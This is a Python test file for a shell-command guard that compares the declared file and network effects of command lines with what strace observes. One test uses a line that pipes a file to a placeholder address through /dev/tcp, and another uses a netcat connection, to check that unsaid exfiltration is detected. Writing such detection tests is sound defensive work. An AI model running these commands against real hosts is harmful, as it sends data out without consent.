"""What programs are said to read, write, delete and reach, against what they really do.

The lines of `effects.txt` run under strace; whatever happened must have been said, or something
must have been opaque. `effects_unsaid.txt` holds the lines of which it is known that more happens.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from guard.model import Parsed
from tests.support import real_effects
from tests.support.effects_world import furnish
from tests.support.real_effects import Compared, compare, missing, programs, run, said, table
from tests.support.trace_reading import effects
from tests.support.traced_lines import PATH

_HERE = Path(__file__).parent
LINES = table(_HERE / "effects.txt")
UNSAID = frozenset(table(_HERE / "effects_unsaid.txt"))

# Each line is a program under strace: here a part of them. `GUARD_ALL_EFFECTS=1` runs all.
_ALL = os.environ.get("GUARD_ALL_EFFECTS") == "1"
_EVERY = 1 if _ALL else 7
_ENOUGH = 50  # lines of which shares can be told
pytestmark = pytest.mark.timeout(1800 if _ALL else 400)  # the fixture runs the lines
_BUILTINS = frozenset(
    [
        ".",
        ":",
        "[",
        "cd",
        "command",
        "echo",
        "eval",
        "exec",
        "false",
        "for",
        "mapfile",
        "popd",
        "printf",
        "pushd",
        "read",
        "source",
        "test",
        "time",
        "true",
        "while",
    ]
)


def _is_here(line: str) -> bool:
    return all(name in _BUILTINS or shutil.which(name, path=PATH) for name in programs(line))


@pytest.fixture(scope="module")
def compared(tmp_path_factory: pytest.TempPathFactory) -> list[Compared]:
    """The lines whose programs are installed, run two at a time."""
    if missing():
        pytest.skip(missing())
    folder = tmp_path_factory.mktemp("effects")
    furnish(folder)
    return run([line for line in LINES[::_EVERY] if _is_here(line)], folder)


def test_nothing_happens_that_was_not_said(compared: list[Compared]) -> None:
    """Every file and address that a program touched is covered by an operation, or opaque."""
    silent = {
        one.line: one.silent
        for one in compared
        if one.silent and not one.opaque and one.line not in UNSAID
    }
    assert silent == {}


def test_the_comparison_compares(compared: list[Compared]) -> None:
    """Most lines do something that can be seen, and few are left to something opaque."""
    _enough(compared)
    active = [one for one in compared if _happened(one)]
    assert len(active) > len(compared) * 0.6
    assert sum(one.opaque for one in active) < len(active) * 0.3


@pytest.mark.skipif(not _ALL, reason="only where all lines are compared")
def test_what_is_excused_still_happens_unsaid(compared: list[Compared]) -> None:
    """An excuse that nothing needs any longer goes, where its program is installed."""
    found = [one for one in compared if one.line in UNSAID]
    assert [one.line for one in found if one.opaque or not one.silent] == []


def _enough(compared: list[Compared]) -> None:
    if len(compared) < _ENOUGH:
        pytest.skip("too few of the programs are installed")


def _happened(one: Compared) -> bool:
    found = one.effects
    return bool(found.reads or found.writes or found.deletes or found.connects or found.listens)


def test_what_is_said_for_certain_mostly_happens(compared: list[Compared]) -> None:
    """What must happen and did not is counted, where the program itself was content."""
    _enough(compared)
    idle = [one for one in compared if one.idle and one.status == 0]
    assert len(idle) < len(compared) * 0.1, [(one.line, one.idle) for one in idle]


def test_an_effect_that_is_not_said_is_found(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A reader that says nothing is caught at files and at addresses alike."""
    if missing():
        pytest.skip(missing())
    monkeypatch.setattr(real_effects, "said", lambda *_: Parsed([], []))
    furnish(tmp_path)
    lines = ["cp a.txt z", "rm b.txt", "cat a.txt > /dev/tcp/203.0.113.10/9000"]
    found = [set(one.silent) for one in run(lines, tmp_path)]
    assert found == [
        {"reads a.txt", "writes z"},
        {"deletes b.txt"},
        {"reads a.txt", "connects 203.0.113.10 9000"},
    ]


TRACE = """\
1 clone(child_stack=NULL, flags=SIGCHLD) = 2
1 chdir("d") = 0
2 openat(AT_FDCWD</w>, "a", O_RDONLY) = 3</w/a>
1 openat(AT_FDCWD</w/d>, "new", O_WRONLY|O_CREAT, 0666 <unfinished ...>
2 unlink("gone") = 0
1 <... openat resumed>) = 3</w/d/new>
1 openat(AT_FDCWD</w/d>, "none", O_RDONLY) = -1 ENOENT (No such file or directory)
2 connect(4<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(80), \
sin_addr=inet_addr("192.0.2.1")}, 16) = 0
"""


def test_a_trace_is_read() -> None:
    """Folders of each process, calls in two pieces, and what failed."""
    before = {"a": "1 1", "gone": "1 1", "d": "d"}
    after = {"a": "1 1", "d": "d", "d/new": "0 2"}
    found = effects(TRACE.splitlines(), "/w", before, after)
    assert (found.reads, found.writes, found.deletes) == ({"/w/a"}, {"/w/d/new"}, {"/w/gone"})
    assert found.connects == {("192.0.2.1", 80)}
    assert compare(
        said("cat a > d/new; rm gone; nc 192.0.2.1 80", Path("/w")), found, Path("/w"), before
    ) == ((), ())


def test_known_gaps_are_lines_of_the_table() -> None:
    """No line is excused that is not compared."""
    assert set(LINES) >= UNSAID
    assert len(set(LINES)) == len(LINES)
